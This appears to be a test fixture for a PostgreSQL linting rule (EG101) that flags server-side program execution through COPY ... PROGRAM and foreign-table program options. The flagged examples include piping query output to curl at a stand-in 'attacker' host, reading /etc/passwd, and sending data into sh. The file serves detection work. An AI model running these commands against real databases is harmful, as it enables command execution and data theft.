SET search_path = pg_catalog, pg_temp;
COPY s.t FROM PROGRAM 'id';
--            ^ EG101
COPY (SELECT 1) TO PROGRAM 'curl -d @- http://attacker';
--                 ^ EG101
CREATE FUNCTION s.f() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  COPY s.t FROM PROGRAM 'cat /etc/passwd';
--              ^ EG101
END $$;
DO $$ BEGIN COPY s.t TO PROGRAM 'sh'; END $$;
--                      ^ EG101
CREATE FOREIGN TABLE s.ft (x text) SERVER fs OPTIONS (program 'id');
--                                                    ^ EG101
COPY s.program TO PROGRAM 'gzip > /tmp/x';
--                ^ EG101
-- safe
COPY s.t FROM STDIN;
COPY s.t TO STDOUT;
CREATE FOREIGN TABLE s.ft2 (x text) SERVER other OPTIONS (table_name 'x');
